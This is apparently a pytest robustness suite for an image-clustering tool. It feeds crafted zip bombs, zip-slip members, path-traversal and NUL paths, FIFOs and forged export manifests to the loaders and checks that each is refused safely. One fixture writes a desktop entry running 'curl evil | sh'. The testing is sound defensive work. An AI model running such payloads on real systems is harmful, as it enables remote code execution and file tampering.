"""The robustness corpus through the scanner, the decoder, the CLI, the session loader and undo (issue 10).

Every bad file is skipped with a reason that names what is wrong, every good file is used, no traceback
reaches the person, nothing is printed that a terminal would act on, and nothing is created or changed
outside the folders the run was given (its ``--out`` file and the cache and data folders).
"""

from __future__ import annotations

import csv
import json
import os
import stat
import subprocess
import sys
import threading
import urllib.parse
import zipfile
from pathlib import Path
from typing import Any, Callable, Optional

import numpy as np
import pytest
from PIL import Image

from imgcluster_gui.core import export
from imgcluster_gui.core.dataset import ImageLoadError, load_image, scan_folder
from imgcluster_gui.core.export import ExportError, undo_export, unescape_formula
from imgcluster_gui.core.session import ClusterSession, SessionFileError, load_workspace
from imgcluster_gui.core.session.persistence import image_file_problem
from tests.core.test_session_safety import (
    four_labels,
    npy_bytes,
    npy_header,
    one_run_document,
    write_session_file,
)
from tests.robustness.corpus import IGNORED, SKIP_LOAD, SKIP_SCAN, UNCHECKED, USE, Case, build_corpus

REPO_ROOT = Path(__file__).resolve().parents[2]
# The corpus's JPEG with a garbage EXIF block makes Pillow warn (with the file's name in front, see core/dataset.py).
pytestmark = pytest.mark.filterwarnings("ignore:Corrupt EXIF data:UserWarning")
ESCAPE_BYTES = (b"\x1b", b"\x07", b"\x9b")  # ESC, BEL, and CSI as one C1 byte in Latin-1 terminals


def _restore_permissions(folder: Path) -> None:
    # chmod 000 entries would stop pytest from cleaning the temporary folder up.
    for dirpath, dirnames, filenames in os.walk(folder):
        for name in dirnames + filenames:
            path = os.path.join(dirpath, name)
            if not os.path.islink(path) and stat.S_IMODE(os.lstat(path).st_mode) == 0:
                os.chmod(path, 0o700)  # before os.walk descends into it (top-down)


@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    """(root, cases) of one corpus, shared by the module's tests (building it takes a moment)."""
    base = tmp_path_factory.mktemp("robustness")
    root = base / "corpus"
    cases = build_corpus(root)
    yield root, cases
    _restore_permissions(root)


def _relative(root: Path, path: Any) -> str:
    return os.path.relpath(os.fsdecode(path), root)


def _unchecked_prefixes(cases: list[Case]) -> tuple[str, ...]:
    return tuple(c.path for c in cases if c.expect == UNCHECKED)


def _is_unchecked(path: str, prefixes: tuple[str, ...]) -> bool:
    return any(path == p or path.startswith(p + "/") for p in prefixes)


def test_the_corpus_holds_at_least_80_kinds_and_stays_small(corpus):
    root, cases = corpus
    kinds = {c.kind for c in cases}
    assert len(kinds) == len(cases) >= 80
    for expect in (USE, SKIP_SCAN, SKIP_LOAD, IGNORED):
        assert any(c.expect == expect for c in cases), expect
    assert all(c.reason for c in cases if c.expect in (SKIP_SCAN, SKIP_LOAD))  # every skip names its reason
    total = sum(os.lstat(os.path.join(d, f)).st_size for d, _, files in os.walk(root) for f in files)
    assert total < 1_000_000


# ---------------------------------------------------------------------------- (a) scan_folder


def test_scan_uses_every_good_file_and_skips_every_bad_one_with_its_reason(corpus):
    root, cases = corpus
    scan = scan_folder(root)
    kept = [_relative(root, p) for p in scan.paths]
    skipped = {_relative(root, s.path): s.reason for s in scan.skipped}
    assert len(skipped) == len(scan.skipped)  # one line per file
    unchecked = _unchecked_prefixes(cases)
    expected_kept = {c.path for c in cases if c.expect in (USE, SKIP_LOAD)}
    expected_skipped = {c.path: c.reason for c in cases if c.expect == SKIP_SCAN}
    assert {p for p in kept if not _is_unchecked(p, unchecked)} == expected_kept
    wrong = {
        path: (skipped.get(path), reason)
        for path, reason in expected_skipped.items()
        if path not in skipped or reason not in skipped[path]
    }
    assert wrong == {}, "skipped with no or the wrong reason (got, wanted)"
    extra = {p: r for p, r in skipped.items() if p not in expected_skipped and not _is_unchecked(p, unchecked)}
    assert extra == {}, "skipped although the corpus says otherwise"


# ---------------------------------------------------------------------------- (b) load_image


def test_load_image_gives_rgb_for_every_good_file_and_only_image_load_error_otherwise(corpus):
    root, cases = corpus
    by_path = {c.path: c for c in cases}
    problems = []
    for path in scan_folder(root).paths:
        case = by_path.get(_relative(root, path))
        try:
            image = load_image(path)
        except ImageLoadError as exc:
            if case is not None and case.expect == UNCHECKED:
                continue
            if case is None or case.expect != SKIP_LOAD or case.reason not in str(exc):
                problems.append((case and case.kind, f"ImageLoadError: {exc}"))
            continue
        except Exception as exc:  # noqa: BLE001 - any other class is the bug this test is for
            problems.append((case and case.kind, f"{type(exc).__name__}: {exc}"))
            continue
        if case is not None and case.expect == SKIP_LOAD:
            problems.append((case.kind, "decoded although the file is broken"))
        elif image.mode != "RGB" or (case is not None and case.size is not None and image.size != case.size):
            problems.append((case and case.kind, f"{image.mode} {image.size}, expected RGB {case and case.size}"))
    assert problems == []


def test_load_image_refuses_every_file_the_scan_skips_without_blocking_and_with_image_load_error_only(corpus):
    root, cases = corpus
    for case in cases:
        if case.expect != SKIP_SCAN:
            continue
        if case.kind == "hidden-image":
            continue  # a valid picture, left out by the scan for its name only
        _image, error = _in_thread(lambda path=root / case.path: load_image(path))
        assert type(error) is ImageLoadError, (case.kind, error)


# ---------------------------------------------------------------------------- (c, d) the CLI, once


def _snapshot(folder: Path, leave_out: tuple[Path, ...]) -> dict[str, tuple[int, int, int]]:
    """path -> (size, mtime_ns, mode) of everything under ``folder`` (links not followed), ``leave_out`` excepted."""
    skipped_prefixes = tuple(os.fspath(p) for p in leave_out)
    found: dict[str, tuple[int, int, int]] = {}
    for dirpath, dirnames, filenames in os.walk(folder):
        dirnames[:] = [d for d in dirnames if not os.path.join(dirpath, d).startswith(skipped_prefixes)]
        for name in dirnames + filenames:
            path = os.path.join(dirpath, name)
            if path.startswith(skipped_prefixes):
                continue
            st = os.lstat(path)
            # A folder's size and mtime change when an entry is added or removed in it: exactly what is watched.
            found[path] = (st.st_size, st.st_mtime_ns, st.st_mode)
    return found


@pytest.fixture(scope="module")
def cli_run(tmp_path_factory):
    """One ``imgcluster cluster`` run over a fresh corpus, with HOME, XDG folders and the working folder in tmp."""
    base = tmp_path_factory.mktemp("cli")
    root = base / "corpus"
    cases = build_corpus(root)
    places = {name: base / name for name in ("home", "config", "data-home", "cache-home", "state", "cwd")}
    for folder in places.values():
        folder.mkdir()
    # The temporary folder is scratch space, not watched: importing torch._dynamo (a forward pass of some
    # torchvision models does) makes an empty torchinductor_<user> folder there, which is torch's doing.
    places["tmp"] = tmp_path_factory.mktemp("scratch")
    cache, data, out = base / "imgcluster-cache", base / "imgcluster-data", base / "labels.csv"
    env = {k: v for k, v in os.environ.items() if not k.startswith(("XDG_", "IMGCLUSTER_", "TORCH_"))}
    env.update(
        HOME=str(places["home"]),
        XDG_CONFIG_HOME=str(places["config"]),
        XDG_DATA_HOME=str(places["data-home"]),
        XDG_CACHE_HOME=str(places["cache-home"]),
        XDG_STATE_HOME=str(places["state"]),
        TMPDIR=str(places["tmp"]),
        IMGCLUSTER_CACHE_DIR=str(cache),
        IMGCLUSTER_DATA_DIR=str(data),
        PYTHONIOENCODING="utf-8",  # a strict UTF-8 terminal, the desktop default
        PYTHONPATH=os.pathsep.join([str(REPO_ROOT), env.get("PYTHONPATH", "")]),
        PYTHONDONTWRITEBYTECODE="1",
    )
    before = _snapshot(base, (cache, data, out))
    command = [sys.executable, "-m", "imgcluster_gui.cli", "cluster", str(root), "--out", str(out), "--quiet"]
    command += ["--algorithm", "kmeans", "--k", "3", "--workers", "0", "--device", "cpu"]
    proc = subprocess.run(command, cwd=places["cwd"], env=env, capture_output=True, timeout=600)
    after = _snapshot(base, (cache, data, out))
    yield {"root": root, "cases": cases, "proc": proc, "out": out, "before": before, "after": after, "base": base}
    _restore_permissions(root)


def test_the_cli_exits_cleanly_and_prints_only_safe_utf8(cli_run):
    proc = cli_run["proc"]
    assert proc.returncode == 0, proc.stderr.decode("utf-8", "replace")[-3000:]
    for stream in (proc.stdout, proc.stderr):
        text = stream.decode("utf-8")  # strict: every byte printed is UTF-8
        assert "Traceback" not in text
        for byte in ESCAPE_BYTES[:2]:
            assert byte not in stream
        assert "\x9b" not in text  # the C1 control sequence introducer
    lines = proc.stdout.decode("utf-8").splitlines()
    assert not any(line.startswith("Images:      999") for line in lines)  # a newline in a name forged no line


def _csv_paths(out: Path) -> list[str]:
    with open(out, newline="", encoding="utf-8") as fh:  # strict: the CSV is valid UTF-8
        rows = list(csv.DictReader(fh))
    paths = []
    for row in rows:
        assert row["cluster_id"] != ""
        raw = unescape_formula(row["path"])
        paths.append(os.fsdecode(urllib.parse.unquote_to_bytes(raw)) if row["path_escaped"] == "1" else raw)
    return paths


def test_the_cli_lists_every_used_file_and_names_every_skipped_one(cli_run):
    root, cases, proc = cli_run["root"], cli_run["cases"], cli_run["proc"]
    assert proc.returncode == 0
    unchecked = _unchecked_prefixes(cases)
    listed = [_relative(root, p) for p in _csv_paths(cli_run["out"])]
    assert len(listed) == len(set(listed))
    assert {p for p in listed if not _is_unchecked(p, unchecked)} == {c.path for c in cases if c.expect == USE}
    stdout = proc.stdout.decode("utf-8")
    skipped_lines = [line for line in stdout.splitlines() if line.startswith("  skipped ")]
    wanted = [c for c in cases if c.expect in (SKIP_SCAN, SKIP_LOAD)]
    assert len(skipped_lines) >= len(wanted)
    for case in wanted:  # the reason reaches the person too (the name itself is printed escaped)
        assert any(case.reason in line for line in skipped_lines), case.kind


def test_the_cli_creates_or_changes_nothing_outside_its_out_file_and_its_own_folders(cli_run):
    assert cli_run["proc"].returncode == 0
    before, after = cli_run["before"], cli_run["after"]
    created = sorted(set(after) - set(before))
    removed = sorted(set(before) - set(after))
    changed = sorted(p for p in set(before) & set(after) if before[p] != after[p])
    assert (created, removed, changed) == ([], [], [])
    assert cli_run["out"].is_file()


# ---------------------------------------------------------------------------- (e) crafted sessions


def _session_cases(folder: Path) -> dict[str, tuple[Path, Optional[str]]]:
    """name -> (session file, None when it must be refused as a whole, else the image it must mark missing)."""
    photos = folder / "photos"
    photos.mkdir()
    Image.new("RGB", (8, 6), (1, 2, 3)).save(photos / "a.png")
    (folder / "secret.png").write_bytes((photos / "a.png").read_bytes())  # outside the session's image root
    made: dict[str, tuple[Path, Optional[str]]] = {}

    def craft(name: str, document: Any, members: dict[str, bytes], missing: Optional[str] = None, **kw: Any) -> None:
        made[name] = (write_session_file(folder / f"{name}.imgcluster", document, members, **kw), missing)

    four = one_run_document(["a.png"] * 4, root=str(photos))
    zeros = npy_header((4, 3_276_800), "<f4") + bytes(4 * 3_276_800 * 4)
    craft("zip-bomb-member", four, {**four_labels(), "features.npy": zeros}, compressed=frozenset({"features.npy"}))
    craft("huge-npy-shape", four, {"labels.npy": npy_header((2**40,))})
    craft("huge-feature-columns", four, {**four_labels(), "features.npy": npy_header((4, 2**31), "<f4")})
    craft("deep-json", None, four_labels(), json_text="[" * 100_000 + "]" * 100_000)
    craft("json-nested-64-plus", None, four_labels(), json_text='{"a":' * 200 + "1" + "}" * 200)
    craft("object-array", four, {"labels.npy": npy_header((4,), "|O") + bytes(32)})
    craft("labels-wrong-length", four, {"labels.npy": npy_bytes(np.zeros(7, dtype=np.int64))})
    craft("labels-float", four, {"labels.npy": npy_bytes(np.zeros(4, dtype=np.float64) + 0.5)})
    craft("no-labels", four, {})
    craft("not-json", None, four_labels(), json_text="this is not JSON {")
    craft("json-list", ["not", "a", "session"], four_labels())
    craft("wrong-format", {"format": "something-else", "version": 1, "paths": []}, four_labels())
    craft("future-version", {**four, "version": 99}, four_labels())
    craft("paths-not-strings", one_run_document([1, 2, 3, 4]), four_labels())
    craft("dot-dot-path", one_run_document(["a.png", "../secret.png", "a.png", "a.png"], root=str(photos)),
          four_labels(), missing="../secret.png")  # fmt: skip
    craft("nul-in-path", one_run_document(["a.png", "b\x00.png", "a.png", "a.png"], root=str(photos)),
          four_labels(), missing="b\x00.png")  # fmt: skip
    if hasattr(os, "mkfifo"):
        os.mkfifo(photos / "pipe.png")
        craft(
            "fifo-image-path",
            one_run_document(["a.png", "pipe.png", "a.png", "a.png"], root=str(photos)),
            four_labels(),
            missing="",
        )  # it loads: the FIFO is refused when it is used (checked below)
        os.mkfifo(folder / "fifo-session.imgcluster")
        made["session-is-a-fifo"] = (folder / "fifo-session.imgcluster", None)
    with zipfile.ZipFile(folder / "zip-slip.imgcluster", "w") as archive:
        archive.writestr("session.json", json.dumps(four))
        archive.writestr("labels.npy", four_labels()["labels.npy"])
        archive.writestr("../../escaped.txt", b"written outside?")
    made["zip-slip-member"] = (folder / "zip-slip.imgcluster", "")
    (folder / "text.imgcluster").write_text("plain text, not a zip")
    made["not-a-zip"] = (folder / "text.imgcluster", None)
    (folder / "empty.imgcluster").write_bytes(b"")
    made["empty-file"] = (folder / "empty.imgcluster", None)
    good = write_session_file(folder / "good.imgcluster", four, four_labels()).read_bytes()
    (folder / "truncated.imgcluster").write_bytes(good[: len(good) // 2])
    made["truncated-zip"] = (folder / "truncated.imgcluster", None)
    (folder / "folder.imgcluster").mkdir()
    made["session-is-a-folder"] = (folder / "folder.imgcluster", None)
    made["session-missing"] = (folder / "gone.imgcluster", None)
    return made


def _in_thread(call: Callable[[], Any], seconds: float = 20.0) -> tuple[Any, Optional[BaseException]]:
    """Run ``call`` in a thread; fail the test if it blocks (a FIFO read), else give its result or exception."""
    outcome: list[Any] = []

    def run() -> None:
        try:
            outcome.append((call(), None))
        except BaseException as exc:  # noqa: BLE001 - handed back to the test
            outcome.append((None, exc))

    worker = threading.Thread(target=run, daemon=True)
    worker.start()
    worker.join(timeout=seconds)
    assert not worker.is_alive(), "blocked"
    return outcome[0]


def test_crafted_sessions_give_session_file_error_or_mark_the_image_missing(tmp_path):
    cases = _session_cases(tmp_path)
    before = _snapshot(tmp_path, ())
    problems = {}
    for name, (path, missing) in cases.items():
        for load in (ClusterSession.load, load_workspace):
            result, error = _in_thread(lambda load=load, path=path: load(path))
            if missing is None:
                if type(error) is not SessionFileError or "\n" in str(error):
                    problems[name, load.__name__] = repr(error) if error else "loaded"
                continue
            if error is not None:
                problems[name, load.__name__] = repr(error)
                continue
            session = result if isinstance(result, ClusterSession) else result.records()[0].session
            if missing and (
                set(session.missing) != {1} or not Path(session.paths[1]).is_relative_to(tmp_path / "photos")
            ):
                problems[name, load.__name__] = f"missing={session.missing} paths={session.paths}"
    assert problems == {}
    assert _snapshot(tmp_path, ()) == before  # nothing written (no zip member extracted, no temp file left)
    assert not (tmp_path.parent / "escaped.txt").exists()
    if "fifo-image-path" in cases:
        session = ClusterSession.load(cases["fifo-image-path"][0])
        assert image_file_problem(session.paths[1]) == "is a FIFO (named pipe), not a regular file"
        assert session.exportable_paths()[0] == [0, 2, 3]
        _result, error = _in_thread(lambda: load_image(session.paths[1]))
        assert type(error) is ImageLoadError and "FIFO" in str(error)


# ---------------------------------------------------------------------------- (e) crafted manifests


@pytest.fixture
def victim(tmp_path):
    """A file, a link and a folder outside the export that no undo may touch."""
    home = tmp_path / "home"
    home.mkdir()
    (home / "notes.txt").write_bytes(b"precious")
    (home / "shortcut").symlink_to(home / "notes.txt")
    return home


def _manifest(target: Path, mode: str, entries: list[dict[str, str]], **fields: Any) -> dict[str, Any]:
    return {
        "version": export.MANIFEST_VERSION,
        "kind": export.MANIFEST_KIND,
        "target": str(target),
        "target_real": os.path.realpath(target),
        "mode": mode,
        "folders": ["Cluster 0"],
        "created_folders": ["Cluster 0"],
        "undone": False,
        "entries": entries,
        **fields,
    }


def test_crafted_manifests_are_refused_and_touch_nothing(tmp_path, victim):
    target = tmp_path / "export"
    (target / "Cluster 0").mkdir(parents=True)
    payload = target / "Cluster 0" / "evil.desktop"
    payload.write_text("[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n")
    kept = target / "Cluster 0" / "kept.png"
    kept.write_bytes(b"a file the user keeps")
    notes, link = victim / "notes.txt", victim / "shortcut"
    autostart = victim / ".config" / "autostart" / "evil.desktop"
    same = {"source": str(notes), "destination": str(notes), "mode": "copy", "status": "done"}
    same_inside = {"source": str(kept), "destination": str(kept), "mode": "copy", "status": "done"}
    outside = {"source": str(notes), "destination": str(link), "mode": "symlink", "status": "done"}
    escape = {"source": str(autostart), "destination": str(payload), "mode": "move", "status": "done"}
    dotdot = dict(escape, destination=str(target / "Cluster 0" / ".." / ".." / "home" / "notes.txt"))
    relative = {"source": "notes.txt", "destination": "Cluster 0/kept.png", "mode": "copy", "status": "done"}

    def write(name: str, data: Any, text: Optional[str] = None) -> Path:
        path = target / f"imgcluster-export-{name}.json"
        path.write_text(json.dumps(data) if text is None else text)
        return path

    whole = {  # refused as a whole with ExportError, before anything is read from the entries
        "unsigned": write("unsigned", _manifest(target, "copy", [same])),
        "forged-signature": write("forged", _manifest(target, "copy", [same], signature="hmac-sha256:" + "0" * 64)),
        "version-1": write("v1", dict(_manifest(target, "move", [escape]), version=1)),
        "signed-then-edited": write(
            "edited", dict(export.sign_manifest(_manifest(target, "copy", [same_inside])), entries=[same])
        ),
        "signed-other-target": write(
            "retarget", export.sign_manifest(_manifest(victim, "copy", [same], target_real=str(target)))
        ),
        "not-json": write("text", None, text="not json"),
        "json-list": write("list", ["entries"]),
        "deep-json": write("deep", None, text="[" * 100_000 + "]" * 100_000),
        "not-ascii": write("latin", None, text='{"entries": [], "version": 2, "kind": "caf\u00e9"}'),
        "missing": target / "imgcluster-export-gone.json",
        "folder": target / "Cluster 0",
    }
    if hasattr(os, "mkfifo"):
        whole["fifo"] = target / "imgcluster-export-fifo.json"
        os.mkfifo(whole["fifo"])
    signed = {  # the app's own signature, entries no export of ours writes: each refused, nothing touched
        "source-is-destination": [same, same_inside],
        "destination-outside-target": [outside],
        "move-into-new-folders": [escape],
        "dot-dot-destination": [dotdot],
        "relative-paths": [relative],
    }
    before = _snapshot(tmp_path, ())
    for name, path in whole.items():
        _result, error = _in_thread(lambda path=path: undo_export(path))
        assert type(error) is ExportError and "\n" not in str(error), (name, error)
    assert _snapshot(tmp_path, ()) == before, "a refused manifest touched something"
    for name, entries in signed.items():
        mode = entries[0]["mode"]
        path = write(name, export.sign_manifest(_manifest(target, mode, entries)))
        result, error = _in_thread(lambda path=path: undo_export(path))
        assert error is None, (name, error)
        assert result.restored == result.removed == 0 and len(result.problems) == len(entries), name
        assert all("left alone" in p.reason or "creates no folders" in p.reason for p in result.problems), name
    assert notes.read_bytes() == b"precious" and link.is_symlink() and not (victim / ".config").exists()
    assert payload.exists() and kept.read_bytes() == b"a file the user keeps"
